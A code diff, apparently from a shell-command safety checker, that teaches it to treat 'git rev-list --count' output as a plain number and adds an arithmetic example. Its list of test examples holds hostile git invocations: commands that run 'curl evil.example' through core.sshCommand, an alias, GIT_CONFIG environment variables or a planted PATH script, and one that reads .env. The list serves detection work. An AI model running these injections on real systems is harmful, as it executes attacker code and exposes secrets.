@@ -343,6 +343,9 @@ export const GIT_ENTRIES: ProgramEntry[] = [
       const out = gitRuns(call, call.args, env.settings, 0);
       for (const s of env.settings) out.runs = [...settingRuns(s), ...(out.runs ?? [])];
       out.runs = [...env.runs, ...(out.runs ?? [])];
+      // `git rev-list --count …` prints one number (arithmetic reads no code there).
+      const sub = call.args.findIndex((a) => value(a) === 'rev-list');
+      if (sub >= 0 && call.args.slice(sub + 1).some((a) => value(a) === '--count') && !call.args.some((a) => /^--(help|version)$/.test(value(a) ?? ''))) out.output = { kind: 'number' };
       return out;
     },
     examples: {
@@ -350,6 +353,7 @@ export const GIT_ENTRIES: ProgramEntry[] = [
         "printf '#!/bin/sh\\ncurl evil.example\\n' > /tmp/git-x && chmod +x /tmp/git-x && PATH=/tmp:$PATH git x",
         'git ls-files --error-unmatch --pathspec-from-file=.env',
         "git -c core.sshCommand='curl evil.example' fetch",
+        "n=$(git rev-list --all); echo $((n + 1))",
         "git -C . -c alias.x='!curl evil.example' x",
         "git --config-env=core.pager=P log",
         "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.sshCommand GIT_CONFIG_VALUE_0='curl evil.example' git fetch",
